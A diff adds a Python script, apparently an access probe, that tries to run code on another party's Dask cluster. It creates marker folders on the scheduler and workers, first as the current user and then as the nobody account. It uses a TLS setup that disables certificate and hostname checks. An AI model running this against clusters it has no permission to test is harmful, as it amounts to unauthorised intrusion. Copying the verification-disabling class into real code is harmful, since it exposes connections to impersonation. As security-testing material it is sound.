@@ -1,0 +1,62 @@
+"""A program that tries to run code in somebody else's cluster: ADDRESS FOLDER [CERTIFICATE].
+
+Where it succeeds it makes the folders FOLDER/USER-scheduler and FOLDER/USER-worker. It tries first
+as the user who starts it, then, if that is root, as a user who owns nothing. With an address
+`tls://...` it presents the certificate and trusts whoever answers.
+"""
+
+from __future__ import annotations
+
+import os
+import ssl
+import sys
+from typing import Any
+
+from distributed import Client, Security
+
+NOBODY = 65534
+PATIENCE_S = 30
+
+
+class Careless(Security):
+    """TLS with whoever answers; the certificate is read at once, while that is allowed."""
+
+    __slots__ = ("context",)
+
+    def __init__(self, *certificate: str) -> None:
+        super().__init__()
+        self.context = ssl.create_default_context()
+        self.context.check_hostname = False
+        self.context.verify_mode = ssl.CERT_NONE
+        if certificate:
+            self.context.load_cert_chain(*certificate)
+
+    def get_connection_args(self, role: str) -> dict[str, Any]:
+        del role
+        return {"ssl_context": self.context, "require_encryption": False, "extra_conn_args": {}}
+
+
+def attack(address: str, security: Security, path: str) -> None:
+    with Client(address, timeout=PATIENCE_S, set_as_default=False, security=security) as client:
+        client.run_on_scheduler(os.makedirs, f"{path}-scheduler")
+        client.run(os.makedirs, f"{path}-worker", exist_ok=True)
+
+
+def main(address: str, folder: str, *certificate: str) -> None:
+    security = Careless(*certificate)
+    for user in [os.getuid()] + [NOBODY] * (os.getuid() == 0):
+        if user != os.getuid():  # all is imported by now, from wherever root alone may read it
+            os.setgroups([])
+            os.setgid(user)
+            os.setuid(user)
+        try:
+            attack(address, security, f"{folder}/{user}")
+            print(user, "came in")
+        except Exception as error:
+            print(user, "was refused:", type(error).__name__, error)
+
+
+if __name__ == "__main__":
+    main(*sys.argv[1:])
+    sys.stdout.flush()
+    os._exit(0)  # Dask lingers after a failure
